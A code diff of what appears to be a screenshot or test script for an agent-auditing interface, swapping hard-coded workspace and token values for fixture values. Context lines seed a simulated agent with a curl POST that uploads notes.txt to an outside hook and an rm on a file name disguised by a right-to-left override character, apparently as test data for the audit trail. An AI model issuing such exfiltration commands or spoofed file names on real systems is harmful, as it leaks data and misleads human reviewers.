@@ -12,7 +12,7 @@ def take(room, browser, folder):
     hold = room.push()
     room.agent("curl", "-X", "POST", "https://example.com/hook", "-d", "@notes.txt")
     room.agent("rm", "/tmp/a\n\u202egnp.exe", objective="clean\tup")
-    room.run_of_workspaces()
+    lead, _ = room.run_of_workspaces()
     session = room.safepoint("session", "list")["sessions"][0]["session_id"]
     checkpoint = room.safepoint("list")["checkpoints"][0]["id"]
     action = room.safepoint("log")["actions"][0]["action_id"]
@@ -27,7 +27,7 @@ def take(room, browser, folder):
         "rollback": f"/checkpoints/{checkpoint}/rollback",
         "undo": f"/actions/{action}/undo",
         "workspaces": "/workspaces",
-        "workspace": "/workspaces/wsp_lead",
+        "workspace": f"/workspaces/{lead}",
         "trail": "/trail",
         "entry": "/trail/entry/3",
         "verify": "/trail/verify",
@@ -43,7 +43,7 @@ def take(room, browser, folder):
             page.goto(address)
             if name == "sign-in":
                 page.screenshot(path=folder / f"{kind}-sign-in.png")
-                page.fill("#token", "operator-token")
+                page.fill("#token", room.tokens["operator"])
                 page.get_by_role("button", name="Sign in").click()
                 continue
             if name in ("trail", "entry", "verify"):
